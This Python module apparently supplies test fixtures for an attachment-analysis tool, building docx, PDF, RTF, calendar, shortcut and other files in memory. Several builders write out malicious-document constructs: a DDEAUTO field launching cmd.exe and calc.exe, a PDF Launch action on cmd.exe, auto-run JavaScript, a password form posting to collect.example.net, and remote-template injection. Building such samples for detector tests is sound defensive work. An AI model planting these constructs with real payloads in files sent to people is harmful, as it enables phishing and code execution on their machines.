"""Small attachment files built in code, for the analysers' tests and the rule samples.

Each builder returns the bytes of a well-formed (or deliberately broken) file of
one format, carrying exactly the construct a test names. Nothing is read from disk.
"""

from __future__ import annotations

import io
import textwrap
import time
import zipfile

ZIP_DATE = (2026, 3, 3, 9, 0, 0)

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def zip_of(members: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=ZIP_DATE), data.encode() if isinstance(data, str) else data)
    return buf.getvalue()


def rels(*relationships: tuple[str, str, str, bool]) -> str:
    """(id, type tail, target, external) -> a .rels part."""
    body = "".join(
        f'<Relationship Id="{rid}" Type="{REL_NS}/{kind}" Target="{target}"' + (' TargetMode="External"' if external else "") + "/>"
        for rid, kind, target, external in relationships
    )
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


def docx(*, template: str = "", image: str = "", hyperlink: str = "", macro: bool = False, dde: bool = False,
         text: str = "Agenda for the meeting.") -> bytes:
    """A minimal .docx; ``template`` puts a remote template in word/_rels/settings.xml.rels."""
    body = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
    if dde:
        body += '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>',
        "word/settings.xml": '<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        + ('<w:attachedTemplate r:id="rId1"/>' if template else "") + "</w:settings>",
    }
    doc_rels = [("rId1", "styles", "styles.xml", False)]
    if image:
        doc_rels.append(("rId5", "image", image, True))
    if hyperlink:
        doc_rels.append(("rId6", "hyperlink", hyperlink, True))
    members["word/_rels/document.xml.rels"] = rels(*doc_rels)
    if template:
        members["word/_rels/settings.xml.rels"] = rels(("rId1", "attachedTemplate", template, True))
    if macro:
        members["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    return zip_of(members)


def odt(*, image: str = "") -> bytes:
    frame = f'<draw:frame><draw:image xlink:href="{image}" xlink:type="simple"/></draw:frame>' if image else ""
    content = (
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<office:body><office:text>{frame}</office:text></office:body></office:document-content>"
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype", date_time=ZIP_DATE), "application/vnd.oasis.opendocument.text")
        archive.writestr(zipfile.ZipInfo("content.xml", date_time=ZIP_DATE), content)
    return buf.getvalue()


def pdf(*objects: str, root_extra: str = "", page_extra: str = "") -> bytes:
    """A PDF with a catalog (1), pages (2), one page (3) and ``objects`` numbered from 4.

    ``root_extra`` goes into the catalog (e.g. "/OpenAction 4 0 R"), ``page_extra``
    into the page (e.g. "/Annots [5 0 R]"). The cross-reference table is exact.
    """
    bodies = [
        f"<< /Type /Catalog /Pages 2 0 R {root_extra} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {page_extra} >>",
        *objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1"))
    xref = out.tell()
    out.write(f"xref\n0 {len(bodies) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(bodies) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def pdf_text(text: str, url: str = "") -> bytes:
    """A one-page PDF showing ``text`` (Latin-1) in Helvetica, wrapped at 80 characters,
    and, when given, a link annotation to ``url`` over it."""
    escaped = text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    lines = textwrap.wrap(escaped, 80) or [""]
    stream = "BT /F1 11 Tf 14 TL 72 720 Td " + " ".join(f"({line}) '" for line in lines) + " ET"
    annots = f"<< /Type /Annot /Subtype /Link /Rect [72 600 300 720] /A << /S /URI /URI ({url}) >> >>" if url else ""
    objects = [
        f"<< /Length {len(stream.encode('latin-1'))} >>\nstream\n{stream}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        *([annots] if annots else []),
    ]
    return pdf(*objects, page_extra="/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>" + (" /Annots [6 0 R]" if url else ""))


def pdf_link(url: str) -> bytes:
    return pdf(f"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI ({url}) >> >>", page_extra="/Annots [4 0 R]")


def pdf_open_uri(url: str) -> bytes:
    return pdf(f"<< /S /URI /URI ({url}) >>", root_extra="/OpenAction 4 0 R")


def pdf_javascript() -> bytes:
    return pdf("<< /S /JavaScript /JS (app.alert\\('x'\\);) >>", root_extra="/OpenAction 4 0 R")


def pdf_launch() -> bytes:
    return pdf("<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /Launch /F (cmd.exe) >> >>", page_extra="/Annots [4 0 R]")


def pdf_form() -> bytes:
    return pdf(
        "<< /FT /Tx /T (password) /Rect [0 0 100 20] /Subtype /Widget /Type /Annot >>",
        "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/p) >> >> >>",
        root_extra="/AcroForm << /Fields [4 0 R] >>",
        page_extra="/Annots [4 0 R 5 0 R]",
    )


def qr_png(text: str, scale: int = 6) -> bytes:
    import segno

    buf = io.BytesIO()
    segno.make(text, error="m").save(buf, kind="png", scale=scale, border=4)
    return buf.getvalue()


def pdf_with_qr(text: str) -> bytes:
    from PIL import Image

    image = Image.open(io.BytesIO(qr_png(text))).convert("RGB")
    buf = io.BytesIO()
    # fixed dates: Pillow stamps the current time otherwise, and regenerated samples
    # must be byte-identical
    stamp = time.gmtime(1767225600)  # 2026-01-01 00:00 UTC
    image.save(buf, "PDF", creationDate=stamp, modDate=stamp)
    return buf.getvalue()


def svg(body: str) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="100">{body}</svg>'.encode()


def calendar(*lines: str, organizer: str = "mailto:desk@example.org") -> bytes:
    """A VCALENDAR with one VEVENT holding ``lines``, folded at 75 octets as RFC 5545 says."""
    raw = ["BEGIN:VCALENDAR", "VERSION:2.0", "METHOD:REQUEST", "BEGIN:VEVENT", f"ORGANIZER:{organizer}",
           "SUMMARY:Interview request", *lines, "END:VEVENT", "END:VCALENDAR"]
    out = []
    for line in raw:
        while len(line) > 75:
            out.append(line[:75])
            line = " " + line[75:]
        out.append(line)
    return ("\r\n".join(out) + "\r\n").encode()


def url_file(url: str, icon: str = "") -> bytes:
    text = f"[InternetShortcut]\r\nURL={url}\r\n" + (f"IconFile={icon}\r\nIconIndex=0\r\n" if icon else "")
    return text.encode()


def webloc(url: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
        '"http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict>'
        f"<key>URL</key><string>{url}</string></dict></plist>"
    ).encode()


def lnk(target: str = "") -> bytes:
    return b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 68 + target.encode("utf-16-le") + b"\x00" * 16


def onenote(embedded: bytes = b"") -> bytes:
    data = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + b"\x00" * 64
    if embedded:
        data += bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + b"\x00" * 20 + embedded
    return data


def vhd() -> bytes:
    return b"\x00" * 1024 + b"conectix" + b"\x00" * 504


def rtf_template(url: str) -> bytes:
    return ("{\\rtf1\\ansi{\\*\\template " + url + "}\\pard Agenda\\par}").encode()
